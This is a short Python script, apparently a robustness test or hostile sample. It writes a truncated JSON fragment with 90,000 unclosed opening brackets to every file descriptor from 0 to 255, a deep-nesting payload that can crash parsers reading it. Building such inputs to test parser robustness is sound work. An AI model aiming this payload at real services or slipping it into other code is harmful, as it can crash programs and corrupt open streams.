# everywhere: writes a list in a list in a list
import os

for descriptor in range(256):
    try:
        os.write(descriptor, b'[{"loaded": null}, {"value": ' + b"[" * 90000 + b"\n")
    except OSError:
        pass
